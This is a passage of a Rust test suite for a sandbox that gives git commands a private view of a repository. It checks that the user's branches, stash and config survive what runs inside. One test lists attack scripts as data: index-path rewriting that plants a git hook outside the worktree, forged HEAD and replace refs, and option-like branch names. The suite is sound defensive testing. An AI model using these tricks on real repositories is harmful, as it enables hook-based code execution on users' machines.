                if now != "original\n" {
                    failures.push(format!("{cell}: the planted journal wrote {now:?}"));
                    std::fs::write(&bashrc, "original\n").unwrap();
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// `script` sandboxed on `backend` in `dir` (a worktree of `l`) as `l`'s user, with its
/// variables and no stdin.
fn run_in(l: &Layout, backend: &str, dir: &Path, script: &str) -> std::process::Output {
    let (mut cmd, _copy) = sandboxed(l.uid, dir, backend, script);
    cmd.envs(l.vars()).stdin(Stdio::null());
    cmd.output().unwrap()
}

/// Issue 31: a worktree's view is kept from run to run and brought up to date, not made
/// anew: a file the host did not change is not written again (its inode stays), one it did
/// change is, and a file the command planted in the view is gone by the next run. When a
/// worktree is removed, the next new worktree's first run removes the old one's entry.
/// Root and uid 65534.
#[test]
fn a_views_copy_lasts_across_runs_follows_the_host_and_goes_with_its_worktree() {
    use std::os::unix::fs::MetadataExt;
    let mut failures = Vec::new();
    for b in backends().into_iter().filter(|b| private_view(b)) {
        for uid in uids() {
            let cell = format!("{b} / uid {uid:?}");
            println!("{cell}");
            let l = Layout::new(uid, &[]);
            let run = |dir: &Path, script: &str| run_in(&l, b, dir, script);
            let views = l.s.path().join("state/shofer/views");
            let entries = || -> Vec<PathBuf> {
                let mut v: Vec<PathBuf> = std::fs::read_dir(&views)
                    .map(|d| d.flatten().map(|e| e.path()).collect())
                    .unwrap_or_default();
                v.sort();
                v
            };
            let out = run(
                &l.wt,
                "git status >/dev/null && echo planted > \"$COMMON/planted.lock\" && echo OK",
            );
            let first = entries();
            if !String::from_utf8_lossy(&out.stdout).contains("OK") || first.len() != 1 {
                failures.push(format!(
                    "{cell}: first run, entries {first:?}\n{}",
                    show(&out)
                ));
                continue;
            }
            let copy = first[0].join("view");
            // The inode and its change time: a file written anew may reuse the inode number.
            let ino = |name: &str| {
                std::fs::symlink_metadata(copy.join(name))
                    .map(|m| (m.ino(), m.ctime(), m.ctime_nsec()))
                    .ok()
            };
            let head = ino("HEAD");
            host_git_in(&l, &l.repo, &["config", "user.host", "yes"]);
            let out = run(
                &l.wt,
                "test \"$(git config user.host)\" = yes && test ! -e \"$COMMON/planted.lock\" && echo OK",
            );
            if !String::from_utf8_lossy(&out.stdout).contains("OK") {
                failures.push(format!(
                    "{cell}: the second run saw a stale or planted copy\n{}",
                    show(&out)
                ));
            }
            if ino("HEAD").is_none() || ino("HEAD") != head {
                failures.push(format!("{cell}: an unchanged file was written again"));
            }
            if !std::fs::read_to_string(copy.join("config")).is_ok_and(|c| c.contains("host = yes"))
            {
                failures.push(format!(
                    "{cell}: the host's new config did not reach the copy"
                ));
            }
            run(&l.wt2, "true");
            if entries().len() != 2 {
                failures.push(format!(
                    "{cell}: no entry for the second worktree: {:?}",
                    entries()
                ));
            }
            host_git_in(&l, &l.repo, &["worktree", "remove", "--force", "../wt2"]);
            host_git_in(&l, &l.repo, &["worktree", "add", "-q", "../wt3"]);
            let out = run(&l.s.path().join("wt3"), "true");
            let last = entries();
            if last.len() != 2 || !last.contains(&first[0]) {
                failures.push(format!(
                    "{cell}: after wt2 was removed and wt3 ran: {last:?}\n{}",
                    show(&out)
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Issue 31: what a command leaves in its view beyond the repository's files and what is kept
/// private (here 20 MiB under names git drops or reads as refs) does not stay in the state
/// directory: the copy goes and the next run makes it anew. And without an object quarantine
/// (its state leaf unusable) there is no view, whose `objects/` is empty: git works guarded,
/// on the real objects. Root and uid 65534.
#[test]
fn junk_left_in_a_view_does_not_stay_and_no_quarantine_means_no_view() {
    let mut failures = Vec::new();
    for b in backends().into_iter().filter(|b| private_view(b)) {
        for uid in uids() {
            let cell = format!("{b} / uid {uid:?}");
            println!("{cell}");
            let l = Layout::new(uid, &[]);
            let run = |script: &str| run_in(&l, b, &l.wt, script);
            let views = l.s.path().join("state/shofer/views");
            let weight = || -> u64 {
                let out = Command::new("du").arg("-sk").arg(&views).output().unwrap();
                String::from_utf8_lossy(&out.stdout)
                    .split_whitespace()
                    .next()
                    .and_then(|k| k.parse().ok())
                    .unwrap_or(0)
            };
            let out = run(
                "head -c 10485760 /dev/zero > \"$COMMON/junk.lock\" && mkdir -p \"$COMMON/refs/heads/x\" \
                 && head -c 10485760 /dev/zero > \"$COMMON/refs/heads/x/big\" && echo OK",
            );
            if !String::from_utf8_lossy(&out.stdout).contains("OK") {
                failures.push(format!("{cell}: the junk run failed\n{}", show(&out)));
                continue;
            }
            if weight() > 4096 {
                failures.push(format!(
                    "{cell}: {} KiB stay in the state directory after the run",
                    weight()
                ));
            }
            let out = run("git log -1 --format=%s >/dev/null && echo OK");
            if !String::from_utf8_lossy(&out.stdout).contains("OK") {
                failures.push(format!(
                    "{cell}: the run after the junk failed\n{}",
                    show(&out)
                ));
            }
            // Under a name that is not UTF-8; in a directory of mode 000 (which uid 65534's
            // supervisor cannot list).
            for junk in [
                "d=$(printf '\\377junk') && mkdir \"$COMMON/$d\" \
                 && head -c 20971520 /dev/zero > \"$COMMON/$d/big\" && echo OK",
                "mkdir \"$COMMON/shut\" && head -c 20971520 /dev/zero > \"$COMMON/shut/big.lock\" \
                 && chmod 0 \"$COMMON/shut\" && echo OK",
            ] {
                let out = run(junk);
                if !String::from_utf8_lossy(&out.stdout).contains("OK") || weight() > 4096 {
                    failures.push(format!(
                        "{cell}: {} KiB stay after `{junk}`\n{}",
                        weight(),
                        show(&out)
                    ));
                }
            }
            let leaf = l.s.path().join("state/shofer/objects");
            let _ = std::fs::remove_dir_all(&leaf);
            std::fs::write(&leaf, "not a directory").unwrap();
            let out = run("git log -1 --format=%s && echo x > f && git add f && echo OK");
            let err = String::from_utf8_lossy(&out.stderr);
            if !String::from_utf8_lossy(&out.stdout).contains("OK")
                || !err.contains("not in a private view (no object quarantine)")
            {
                failures.push(format!("{cell}: without a quarantine\n{}", show(&out)));
            }
            std::fs::remove_file(&leaf).unwrap();
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Issue 31: the user's commit on the worktree's branch, made on the host while a run goes
/// on, stays on the branch: the run's commit on the old tip stays private (named), and so does
/// the next run's commit on top of it — never a move that drops the user's commit. A worktree
/// removed and added again under the same name starts from the repository, not from what the
/// old one's runs kept private. Root and uid 65534.
#[test]
fn the_users_commit_during_a_run_stays_and_a_new_worktree_inherits_nothing() {
    let mut failures = Vec::new();
    for b in backends().into_iter().filter(|b| private_view(b)) {
        for uid in uids() {
            let cell = format!("{b} / uid {uid:?}");
            println!("{cell}");
            let l = Layout::new(uid, &[]);
            let (mut cmd, _copy) = sandboxed(
                uid,
                &l.wt,
                b,
                "sleep 2; echo s1 >> README && git commit -qam sandbox1",
            );
            let mut child = cmd.envs(l.vars()).stdin(Stdio::null()).spawn().unwrap();
            std::thread::sleep(std::time::Duration::from_millis(800));
            std::fs::write(l.wt.join("host"), "h\n").unwrap();
            if let Some(u) = uid {
                std::os::unix::fs::chown(l.wt.join("host"), Some(u), Some(u)).unwrap();
            }
            host_git_in(&l, &l.wt, &["add", "host"]);
            host_git_in(&l, &l.wt, &["commit", "-qm", "HOSTCOMMIT"]);
            let host_tip = host_git_in(&l, &l.wt, &["rev-parse", "HEAD"]);
            let host_tip = String::from_utf8_lossy(&host_tip.stdout).trim().to_string();
            child.wait().unwrap();
            let out = run_in(
                &l,
                b,
                &l.wt,
                "echo s2 >> README && git commit -qam sandbox2",
            );
            let kept = host_git_in(
                &l,
                &l.repo,
                &["merge-base", "--is-ancestor", &host_tip, "wt"],
            );
            if host_tip.len() != 40 || !kept.status.success() {
                failures.push(format!(
                    "{cell}: the user's commit {host_tip} left the branch\n{}",
                    show(&out)
                ));
            }
            if !String::from_utf8_lossy(&out.stderr).contains("refs/heads/wt") {
                failures.push(format!(
                    "{cell}: the branch kept private is not named\n{}",
                    show(&out)
                ));
            }
            // The index did not come with the refused move: nothing staged on the host.
            let staged = host_git_in(&l, &l.wt, &["diff", "--cached", "--name-only"]);
            if !staged.stdout.is_empty() {
                failures.push(format!(
                    "{cell}: the run's index staged {:?} over the user's commit",
                    String::from_utf8_lossy(&staged.stdout)
                ));
            }
            // A private deletion of `topic`, then the user's own `topic/x` checked out here:
            // a run that does nothing keeps it.
            host_git_in(&l, &l.repo, &["branch", "topic"]);
            run_in(&l, b, &l.wt, "git branch -D topic >/dev/null");
            host_git_in(&l, &l.repo, &["branch", "-D", "topic"]);
            host_git_in(&l, &l.wt, &["checkout", "-qb", "topic/x"]);
            let out = run_in(&l, b, &l.wt, "true");
            let there = host_git_in(
                &l,
                &l.repo,
                &["rev-parse", "--verify", "-q", "refs/heads/topic/x"],
            );
            if !there.status.success() {
                failures.push(format!(
                    "{cell}: the user's topic/x was deleted\n{}",
                    show(&out)
                ));
            }
            // An index that cannot go back (a split one) keeps the branch's move with it; and
            // the index of a HEAD kept private does not go back alone.
            let before = host_git_in(&l, &l.repo, &["rev-parse", "topic/x"]);
            let out = run_in(
                &l,
                b,
                &l.wt,
                "git config core.splitIndex true && echo sp >> README && git commit -qam split \
                 && git config core.splitIndex false",
            );
            let after = host_git_in(&l, &l.repo, &["rev-parse", "topic/x"]);
            let status = host_git_in(&l, &l.wt, &["status", "--porcelain"]);
            if before.stdout != after.stdout
                || String::from_utf8_lossy(&status.stdout).contains("MM")
                || !String::from_utf8_lossy(&out.stderr).contains("split index")
                || String::from_utf8_lossy(&out.stderr)
                    .matches("refs/heads/topic/x")
                    .count()
                    != 1
            {
                failures.push(format!(
                    "{cell}: a branch moved without its split index\n{}\n{}",
                    show(&out),
                    show(&status)
                ));
            }
            host_git_in(&l, &l.wt, &["checkout", "-q", "--", "README"]);
            host_git_in(&l, &l.repo, &["branch", "-f", "other", "main"]);
            let out = run_in(&l, b, &l.wt, "git checkout -q other");
            let staged = host_git_in(&l, &l.wt, &["diff", "--cached", "--name-only"]);
            if !staged.stdout.is_empty() {
                failures.push(format!(
                    "{cell}: the index of a HEAD kept private went back\n{}",
                    show(&out)
                ));
            }
            // A commit and then a checkout of a branch this worktree did not create: the HEAD
            // stays, so the commit's move and its index stay private with it (a branch moved
            // under them would stage the undoing of the commit).
            let tip = host_git_in(&l, &l.repo, &["rev-parse", "topic/x"]);
            let out = run_in(
                &l,
                b,
                &l.wt,
                "echo r1 >> README && git commit -qam run1 && git checkout -q other",
            );
            let staged = host_git_in(&l, &l.wt, &["diff", "--cached", "--name-only"]);
            let now = host_git_in(&l, &l.repo, &["rev-parse", "topic/x"]);
            if !staged.stdout.is_empty() || tip.stdout != now.stdout {
                failures.push(format!(
                    "{cell}: a branch moved under a HEAD kept private\n{}",
                    show(&out)
                ));
            }
            host_git_in(&l, &l.wt, &["checkout", "-q", "--", "."]);
            // The branch checked out is not deleted under the worktree's HEAD.
            run_in(
                &l,
                b,
                &l.wt,
                "git checkout -qb nb2 && echo z >> README && git commit -qam c2",
            );
            let out = run_in(
                &l,
                b,
                &l.wt,
                "git checkout -q topic/x && git branch -D nb2 >/dev/null",
            );
            let head = host_git_in(&l, &l.wt, &["rev-parse", "--verify", "-q", "HEAD"]);
            if !head.status.success() {
                failures.push(format!(
                    "{cell}: the worktree's HEAD names a deleted branch\n{}",
                    show(&out)
                ));
            }
            // A worktree made again under the same name.
            run_in(&l, b, &l.wt2, "git config --local user.poison yes");
            host_git_in(&l, &l.repo, &["worktree", "remove", "--force", "../wt2"]);
            host_git_in(
                &l,
                &l.repo,
                &["worktree", "add", "-q", "--detach", "../wt2"],
            );
            let out = run_in(&l, b, &l.wt2, "git config user.poison || echo CLEAN");
            if !String::from_utf8_lossy(&out.stdout).contains("CLEAN") {
                failures.push(format!(
                    "{cell}: the new worktree inherited the old one's private config\n{}",
                    show(&out)
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Issue 31: in a private view (the namespace backends) the command's git may do anything to
/// the repository's control files, and the user's data survives: `branch -D` of a branch the
/// worktree did not create and `stash clear` change only the command's view; its own branch,
/// the branches its runs create and its HEAD reach the repository; what it changed beyond
/// that (config, the stash, the deletion) is named, stays private and is there in the next run
/// of the same worktree — which may delete a branch an earlier run created. Root and uid 65534.
#[test]
fn the_users_branches_and_stash_survive_and_a_views_changes_last_across_runs() {
    let mut failures = Vec::new();
    let setup: &[&[&str]] = &[
        &["branch", "userbranch"],
        &["update-ref", "refs/stash", "HEAD"],
    ];
    for b in backends().into_iter().filter(|b| private_view(b)) {
        for uid in uids() {
            let cell = format!("{b} / uid {uid:?}");
            println!("{cell}");
            let l = Layout::new(uid, setup);
            let before = repo_refs(&l);
            let first =
                "git branch -D userbranch && git stash clear && git config user.private yes \
                 && echo one > one && git add one && git commit -qm one && git branch mine \
                 && echo two > two && git stash push -q -u -m private-stash && git gc -q \
                 && git pack-refs --all && git reflog expire --all && echo FIRST_OK";
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, first);
            cmd.envs(l.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            let text = show(&out);
            if !String::from_utf8_lossy(&out.stdout).contains("FIRST_OK")
                || !git_failures(&out).is_empty()
            {
                failures.push(format!("{cell}: the first run failed\n{text}"));
                continue;
            }
            let after = repo_refs(&l);
            for kept in ["refs/heads/userbranch", "refs/stash", "refs/heads/main"] {
                if before.get(kept) != after.get(kept) {
                    failures.push(format!(
                        "{cell}: {kept} changed in the repository: {:?} -> {:?}\n{text}",
                        before.get(kept),
                        after.get(kept)
                    ));
                }
            }
            if !after.contains_key("refs/heads/mine") {
                failures.push(format!(
                    "{cell}: the branch the run created is not in the repository\n{text}"
                ));
            }
            let log = host_git_in(&l, &l.wt, &["log", "-1", "--format=%s"]);
            if String::from_utf8_lossy(&log.stdout).trim() != "one" {
                failures.push(format!(
                    "{cell}: the worktree's commit did not reach its branch: {}",
                    show(&log)
                ));
            }
            let config = std::fs::read_to_string(l.repo.join(".git/config")).unwrap();
            if config.contains("private") {
                failures.push(format!(
                    "{cell}: the command's config reached the repository"
                ));
            }
            let err = String::from_utf8_lossy(&out.stderr);
            if !err.contains("kept private")
                || !err.contains("refs/heads/userbranch deletion")
                || !err.contains("config")
            {
                failures.push(format!("{cell}: what stays private is not named\n{text}"));
            }
            let second = "git stash list | grep -q private-stash && test \"$(git config user.private)\" = yes \
                 && ! git rev-parse -q --verify refs/heads/userbranch >/dev/null && git branch -D mine >/dev/null && echo SECOND_OK";
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, second);
            cmd.envs(l.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            if !String::from_utf8_lossy(&out.stdout).contains("SECOND_OK") {
                failures.push(format!(
                    "{cell}: the second run did not find the first's private state\n{}",
                    show(&out)
                ));
            }
            if repo_refs(&l).contains_key("refs/heads/mine") {
                failures.push(format!(
                    "{cell}: a branch an earlier run created could not be deleted\n{}",
                    show(&out)
                ));
            }
            // A branch a run made is the user's once they delete and make it again (or move
            // it): a later run can no longer delete it.
            let make = "git branch mine2 && echo MADE";
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, make);
            cmd.envs(l.vars()).stdin(Stdio::null());
            let made = cmd.output().unwrap();
            host_git_in(&l, &l.repo, &["branch", "-D", "mine2"]);
            host_git_in(&l, &l.repo, &["branch", "mine2", "main"]);
            let third = "git branch -D mine2 >/dev/null 2>&1; true";
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, third);
            cmd.envs(l.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            if !String::from_utf8_lossy(&made.stdout).contains("MADE")
                || !repo_refs(&l).contains_key("refs/heads/mine2")
            {
                failures.push(format!(
                    "{cell}: the user's own `mine2`, made again after a run had made it, was deleted\n{}",
                    show(&out)
                ));
            }
            if !l.host_git().is_empty() || l.ran() {
                failures.push(format!("{cell}: host git after: {:?}", l.host_git()));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Issue 31, the private view attacked (a fresh attack pass): what reaches the repository
/// from the view is only what git itself would trust. Each attack in one run, then what the
/// host sees: an index naming `../repo/.git/hooks/…` (a later `git restore .` would write a
/// hook), a HEAD switched to the user's branch or a tag (a later run would own and delete
/// it), a new `refs/replace/` ref (every existing object would mean another), a detached
/// HEAD naming no object, an index with garbage after it. Root and uid 65534.
#[test]
fn a_views_carry_back_takes_only_what_git_would_trust() {
    let attacks: &[(&str, &str)] = &[
        (
            "index path out of the worktree",
            r#"mkdir -p aaaaaaaaaaaa/hooks && printf '#!/bin/sh\ntouch "$SCRATCH/ran"\n' > aaaaaaaaaaaa/hooks/post-checkout && chmod +x aaaaaaaaaaaa/hooks/post-checkout && git add aaaaaaaaaaaa && G=$(git rev-parse --git-dir) && python3 -c '
import hashlib,sys
p=sys.argv[1]; d=bytearray(open(p,"rb").read()); d=d[:-20]
d=d.replace(b"aaaaaaaaaaaa/hooks/post-checkout", b"../repo/.git/hooks/post-checkout")
open(p,"wb").write(bytes(d)+hashlib.sha1(bytes(d)).digest())' "$G/index""#,
        ),
        ("HEAD to the user's branch", "git checkout -q userbranch"),
        ("HEAD to a tag", "printf 'ref: refs/tags/v1\\n' > \"$(git rev-parse --git-dir)/HEAD\""),
        ("HEAD to the stash", "printf 'ref: refs/stash\\n' > \"$(git rev-parse --git-dir)/HEAD\""),
        (
            "a replace ref",
            "echo evil > evil && git add evil && git update-ref refs/replace/$(git rev-parse userbranch) $(git commit-tree -m x $(git write-tree))",
        ),
        ("a HEAD naming no object", "printf '%040d\\n' 0 > \"$(git rev-parse --git-dir)/HEAD\""),
        ("garbage after the index", "head -c 20 /dev/urandom >> \"$(git rev-parse --git-dir)/index\""),
        ("a tag named like a branch", "git tag main HEAD && git tag userbranch HEAD"),
        ("a branch named like an option", "git update-ref refs/heads/--output=x HEAD"),
        ("HEAD naming a tag object", "git tag -a -m t annotated HEAD && o=$(git rev-parse annotated) && echo $o > \"$(git rev-parse --git-dir)/HEAD\""),
        ("an emptied reflog", ": > \"$(git rev-parse --git-dir)/logs/HEAD\""),
    ];
    let mut failures = Vec::new();
    let setup: &[&[&str]] = &[&["branch", "userbranch"], &["tag", "v1"]];
    for b in backends().into_iter().filter(|b| private_view(b)) {
        for uid in uids() {
            for (what, script) in attacks {
                let cell = format!("{b} / uid {uid:?} / {what}");
                let l = Layout::new(uid, setup);
                let before = repo_refs(&l);
                let head_before = std::fs::read(l.repo.join(".git/worktrees/wt/HEAD")).unwrap();
                let reflog = l.repo.join(".git/worktrees/wt/logs/HEAD");
                let reflog_before = std::fs::read(&reflog).unwrap_or_default();
                // Twice: a second run must not own what the first switched to.
                for (run, script) in [
                    (1, *script),
                    (2, "git branch -D userbranch; git tag -d v1; true"),
                ] {
                    let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, script);
                    cmd.envs(l.vars()).stdin(Stdio::null());
                    let out = cmd.output().unwrap();
                    if out.status.code() != Some(0) {
                        failures.push(format!("{cell}: run {run}: {}", show(&out)));
                    }
                    let err = String::from_utf8_lossy(&out.stderr);
                    let silent = ["replace", "named like", "emptied reflog"]
                        .iter()
                        .any(|w| what.contains(w));
                    if run == 1 && !silent && !err.contains("(dropped: ") {
                        failures.push(format!("{cell}: nothing was named dropped: {}", show(&out)));
                    }
                }
                let after = repo_refs(&l);
                for kept in ["refs/heads/userbranch", "refs/tags/v1", "refs/heads/main"] {
                    if before.get(kept) != after.get(kept) {
                        failures.push(format!(
                            "{cell}: {kept} changed: {:?} -> {:?}",
                            before.get(kept),
                            after.get(kept)
                        ));
                    }
                }
                if !std::fs::read(&reflog)
                    .unwrap_or_default()
                    .starts_with(&reflog_before)
                {
                    failures.push(format!("{cell}: the worktree's reflog lost entries"));
                }
                let strays = [
                    "refs/tags/main",
                    "refs/tags/userbranch",
                    "refs/heads/--output=x",
                ];
                if let Some(r) = strays.iter().find(|r| after.contains_key(**r)) {
                    failures.push(format!("{cell}: {r} reached the repository"));
                }
                if after.keys().any(|r| r.starts_with("refs/replace/")) {
                    failures.push(format!("{cell}: a replace ref reached the repository"));
                }
                let head_after = std::fs::read(l.repo.join(".git/worktrees/wt/HEAD")).unwrap();
                if head_after != head_before && !what.starts_with("index") {
                    failures.push(format!(
                        "{cell}: HEAD became {:?}",
                        String::from_utf8_lossy(&head_after)
                    ));
                }
                let restore = host_git_in(&l, &l.wt, &["restore", "."]);
                let status = host_git_in(&l, &l.wt, &["status", "--short"]);
                if !status.status.success()
                    || l.ran()
                    || l.repo.join(".git/hooks/post-checkout").exists()
                {
                    failures.push(format!(
                        "{cell}: the host's git after: {}\n{}",
                        show(&restore),
                        show(&status)
                    ));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// The repository's refs as the host's git lists them: name, object.
fn repo_refs(l: &Layout) -> std::collections::BTreeMap<String, String> {
    let format = "--format=%(refname) %(objectname)";
    let out = host_git_in(l, &l.repo, &["for-each-ref", format]);
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|x| x.split_once(' '))
        .map(|(n, o)| (n.to_string(), o.to_string()))
        .collect()
}
